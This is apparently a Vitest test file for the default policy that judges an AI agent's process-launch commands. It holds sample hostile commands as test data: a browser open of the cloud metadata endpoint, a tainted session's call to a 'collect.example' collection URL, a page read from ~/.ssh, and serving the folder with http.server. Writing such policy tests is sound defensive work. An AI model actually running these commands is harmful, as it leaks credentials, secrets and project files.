import { describe, expect, it } from "vitest";
import { defaultJudge } from "../../helpers/commands.js";

// What the default policy makes of a viewer's URL, a page and a folder server (decision 0142).
const judge = (command: string, tainted = false) =>
  defaultJudge({ tainted }).judge("tools/call", { name: "start_process", arguments: { command } });

describe("viewers and servers under the default policy", () => {
  it("judges a URL handed to the browser by where it goes", () => {
    const d = judge("xdg-open http://169.254.169.254/latest/meta-data");
    expect(d.verdict).toBe("deny");
    expect(d.rule).toBe("egress.deny_hosts <metadata>");
  });

  it("asks before a tainted session sends the browser to a new host", () => {
    expect(judge("xdg-open https://github.com/acme/app").verdict).toBe("allow");
    const d = judge("open https://collect.example/?d=1", true);
    expect(d.verdict).toBe("confirm");
    expect(d.reason).toContain("collect.example");
  });

  it("allows a page untainted and asks once the session is tainted", () => {
    expect(judge("xdg-open index.html").verdict).toBe("allow");
    expect(judge("xdg-open index.html", true).rule).toBe("commands.project_if_tainted");
  });

  it("keeps a page in a folder of secrets denied, as its read", () => {
    expect(judge("xdg-open ~/.ssh/notes.html").verdict).toBe("deny");
  });

  it("names what http.server does, and still asks", () => {
    const d = judge("python3 -m http.server 8000");
    expect(d.verdict).toBe("confirm");
    expect(d.reason).toContain("serves the working folder to the network on port 8000, on every interface");
    expect(judge("python3 -m http.server -b 127.0.0.1 9000").reason).toContain("port 9000, at 127.0.0.1");
  });
});
